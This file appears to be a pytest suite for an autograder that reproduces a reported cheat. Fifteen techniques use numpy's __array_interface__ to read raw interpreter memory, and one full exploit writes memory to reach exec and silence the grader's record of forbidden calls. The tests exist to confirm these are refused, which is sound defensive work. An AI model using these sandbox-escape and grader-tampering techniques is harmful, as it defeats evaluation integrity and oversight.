"""Raw memory from plain Python (issue 31, item 3): an object that numpy reads as an array
interface turns an integer into an address. With `id()` (or any address) that gave read and write
access to the interpreter's memory; from there the student reached `exec` and cleared the record
of forbidden calls: full marks on two steps while using the forbidden kernel.

Every way we found to give an object that protocol, by a name written in the code or made at run
time, is here: each is first shown to work (run without the defences, it reads a buffer of the
test's through the address), then shown refused, by the source policy or, for a name made at run
time, where the name is known (autograder/harness/lookups.py). Then the issue's attack itself,
graded in the sandbox as an instructor grades.
"""

import json
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from autograder.engine.scan.source_reader import findings
from conftest import KIT, SOLUTIONS, full_marks, replace_once

# A name no literal holds: what a student who reads the allow-list would write.
HIDDEN = "NAME = ''.join(chr(c) for c in (95, 95, 97, 114, 114, 97, 121, 95, 105, 110, 116, 101, 114, 102, 97, 99, 101, 95, 95))\n"
INTERFACE = "{'data': (address, False), 'shape': (size,), 'typestr': '|u1', 'version': 3}"

# technique -> a module defining window(address, size): an array over memory at `address`.
TECHNIQUES = {
    "property": f"""
import numpy as np


class Window:
    def __init__(self, address, size):
        self.address, self.size = address, size

    @property
    def __array_interface__(self):
        address, size = self.address, self.size
        return {INTERFACE}


def window(address, size):
    return np.asarray(Window(address, size))
""",
    "class_attribute": f"""
import numpy as np


def window(address, size):
    class Window:
        __array_interface__ = {INTERFACE}

    return np.asarray(Window())
""",
    "getattr_hook": f"""
import numpy as np


class Window:
    def __init__(self, description):
        self.description = description

    def __getattr__(self, name):
        if name.endswith("interface__"):
            return self.description
        raise AttributeError(name)


def window(address, size):
    return np.asarray(Window({INTERFACE}))
""",
    "setattr_literal": f"""
import numpy as np


class Box:
    pass


def window(address, size):
    box = Box()
    setattr(box, "__array_interface__", {INTERFACE})
    return np.asarray(box)
""",
    "setattr_run_time_name": f"""
import numpy as np

{HIDDEN}

class Box:
    pass


def window(address, size):
    box = Box()
    setattr(box, NAME, {INTERFACE})
    return np.asarray(box)
""",
    "type_namespace": f"""
import numpy as np

{HIDDEN}

def window(address, size):
    return np.asarray(type("Window", (), {{NAME: {INTERFACE}}})())
""",
    "metaclass_of_a_class": f"""
import numpy as np

{HIDDEN}

class Box:
    pass


def window(address, size):
    make = Box.__class__.__class__
    return np.asarray(make("Window", (), {{NAME: {INTERFACE}}})())
""",
    "abc_metaclass": f"""
import abc

import numpy as np

{HIDDEN}

def window(address, size):
    return np.asarray(abc.ABCMeta("Window", (), {{NAME: {INTERFACE}}}))
""",
    "enum_functional": f"""
import enum

import numpy as np

{HIDDEN}

def window(address, size):
    return np.asarray(enum.Enum("Window", [(NAME, {INTERFACE})]))
""",
    "own_empty_enum": f"""
import enum

import numpy as np

{HIDDEN}

class Base(enum.Enum):
    pass


def window(address, size):
    return np.asarray(Base("Window", [(NAME, {INTERFACE})]))
""",
    "parameter_dict": f"""
import numpy as np
import torch

{HIDDEN}

def window(address, size):
    return np.asarray(torch.nn.ParameterDict({{NAME: {INTERFACE}}}))
""",
    "dict_module": f"""
import numpy as np
from torch import nn

{HIDDEN}

class Description(nn.Module, dict):
    def __init__(self, address, size):
        nn.Module.__init__(self)
        dict.__init__(self, {INTERFACE})


def window(address, size):
    holder = nn.Module()
    holder.add_module(NAME, Description(address, size))
    return np.asarray(holder)
""",
    "make_dataclass": f"""
import dataclasses

import numpy as np

{HIDDEN}

def window(address, size):
    return np.asarray(dataclasses.make_dataclass("Window", [], namespace={{NAME: {INTERFACE}}})())
""",
    "copy_state": f"""
import copy

import numpy as np

{HIDDEN}

class Box:
    def __init__(self, state=None):
        self.state = state

    def __reduce_ex__(self, protocol):
        return (Box, (), self.state)


def window(address, size):
    return np.asarray(copy.copy(Box({{NAME: {INTERFACE}}})))
""",
    "keyword_names": f"""
import numpy as np


def window(address, size):
    return np.asarray(type("Window", (), dict(__array_interface__={INTERFACE}))())
""",
}

RUNNER = """
import importlib, json, sys
sys.path.insert(0, sys.argv[1])
import numpy as np
guarded = sys.argv[2] == "guarded"
if guarded:
    from autograder.engine.scan.source_reader import lookup_rule
    from autograder.harness.contract import ContractError
    from autograder.harness.lookups import LookupRule
    from autograder.harness.package import Package
    package = Package.load(sys.argv[1], "rawmem", rule=LookupRule.from_data(lookup_rule()))
secret = bytearray(b"the test's own secret bytes")
address = np.frombuffer(secret, dtype=np.uint8).ctypes.data  # the test's, not the student's
seen = {}
for name in json.loads(sys.argv[3]):
    try:
        module = getattr(package, name) if guarded else importlib.import_module("rawmem." + name)
        seen[name] = "read" if bytes(module.window(address, len(secret))) == bytes(secret) else "other"
    except Exception as error:
        refused = type(error).__name__ == "ContractError" and error.what == "refused_lookup"
        seen[name] = "refused" if refused else f"{type(error).__name__}: {error}"[:200]
print(json.dumps(seen))
"""


def run_techniques(tmp_path: Path, guarded: bool) -> dict:
    """Each technique run in a fresh interpreter: 'read' where it read the test's buffer."""
    (tmp_path / "rawmem").mkdir(exist_ok=True)
    for name, source in TECHNIQUES.items():
        (tmp_path / "rawmem" / f"{name}.py").write_text(textwrap.dedent(source))
    completed = subprocess.run(
        [sys.executable, "-c", RUNNER, str(tmp_path), "guarded" if guarded else "plain", json.dumps(list(TECHNIQUES))],
        cwd=KIT,
        capture_output=True,
        text=True,
        timeout=300,
        env={"PYTHONPATH": str(KIT), "PATH": "/usr/bin:/bin"},
    )
    assert completed.returncode == 0, completed.stderr[-3000:]
    return json.loads(completed.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def unguarded(tmp_path_factory):
    return run_techniques(tmp_path_factory.mktemp("plain"), guarded=False)


@pytest.mark.parametrize("technique", list(TECHNIQUES))
def test_each_way_to_the_array_interface_reads_memory_without_the_defences(unguarded, technique):
    """The attack is real: run as plain Python, it reads the test's buffer through its address."""
    assert unguarded[technique] == "read", unguarded[technique]


@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    return run_techniques(tmp_path_factory.mktemp("guarded"), guarded=True)


@pytest.mark.parametrize("technique", list(TECHNIQUES))
def test_each_way_to_the_array_interface_is_refused(guarded, technique):
    """Refused in the code (the step scores zero, the file and line named), or, for a name made
    at run time, where it is known (the lookup raises before anything is handed over)."""
    refused_in_code = findings(textwrap.dedent(TECHNIQUES[technique]))
    assert refused_in_code or guarded[technique] == "refused", (technique, guarded[technique])
    if not refused_in_code:
        return
    ids = {found.message_id for found in refused_in_code}
    assert ids & {"policy.protocol", "policy.metaclass", "policy.name_channel", "policy.subclass", "policy.reflection"}


# ---------------------------------------------------------------------------- the issue's attack

# The issue's attack as a student would hand it in: the forbidden kernel computes the attention
# step's answer (softmax(0 + log w) @ v = w @ v), and at import the array interface over the
# interpreter's memory reaches `exec` (through `print`'s module pointer), which silences the
# grader's record of forbidden calls.
SILENCER = """
import numpy as np
import torch.nn.functional as F


class _Window:
    def __init__(self, address, size):
        self.address, self.size = address, size

    @property
    def __array_interface__(self):
        return {"data": (self.address, False), "shape": (self.size,), "typestr": "|u1", "version": 3}


def _memory(address, size):
    return np.asarray(_Window(address, size))


def _pointer(address):
    return int(_memory(address, 8).view(np.uint64)[0])


def _builtins_module():
    holder = [None]  # ob_item[0] := print's m_self (the builtins module), and one more reference to it
    _memory(_pointer(id(holder) + 24), 8).view(np.uint64)[0] = _pointer(id(print) + 24)
    _memory(_pointer(id(print) + 24), 8).view(np.uint64)[0] += 1
    return holder[0]


_builtins_module().exec(
    "import gc\\ngc.unfreeze()\\n"
    "for found in gc.get_objects():\\n"
    "    if isinstance(found, type) and found.__name__ == 'Watch':\\n"
    "        found.note = lambda self, dotted: None\\n"
)
"""
FORBIDDEN_LINE = "    out = weights @ v  # (..., Lq, d_v)\n"
FORBIDDEN_CALL = (
    "    out = F.scaled_dot_product_attention(\n"
    "        q.new_zeros(*q.shape[:-1], 1), k.new_zeros(*k.shape[:-1], 1), v, attn_mask=weights.log())\n"
)


def issue_attack(root: Path) -> Path:
    shutil.copytree(SOLUTIONS / "mha", root / "mha")
    target = root / "mha" / "attention.py"
    source = replace_once(target.read_text(), "\nimport torch\n", "\nimport torch\n" + SILENCER)
    target.write_text(replace_once(source, FORBIDDEN_LINE, FORBIDDEN_CALL))
    return root


def test_the_issue_s_attack_is_refused_in_the_code_with_its_file_and_line(tmp_path):
    source = (issue_attack(tmp_path) / "mha" / "attention.py").read_text()
    found = findings(source)
    line = source.splitlines().index("    def __array_interface__(self):") + 1
    assert (found[0].message_id, found[0].name, found[0].line) == ("policy.protocol", "__array_interface__", line)


@pytest.mark.slow
def test_the_issue_s_attack_earns_nothing_in_the_sandbox(tmp_path, config):
    """Graded as an instructor grades (the sandboxed worker): on the code before this, the
    attention and masking steps scored 15 / 15 each with the forbidden kernel in use."""
    from autograder.engine.judge.runner import grade

    result = grade(issue_attack(tmp_path), config, reference=SOLUTIONS, seed=1, isolate=True)
    assert {"attention", "masking"} <= set(full_marks(result))
    for step in ("attention", "masking"):
        assert result.step(step).score == 0
        assert all("__array_interface__" in check.message for check in result.step(step).checks)
    assert result.step("padding").score == result.step("padding").max_score
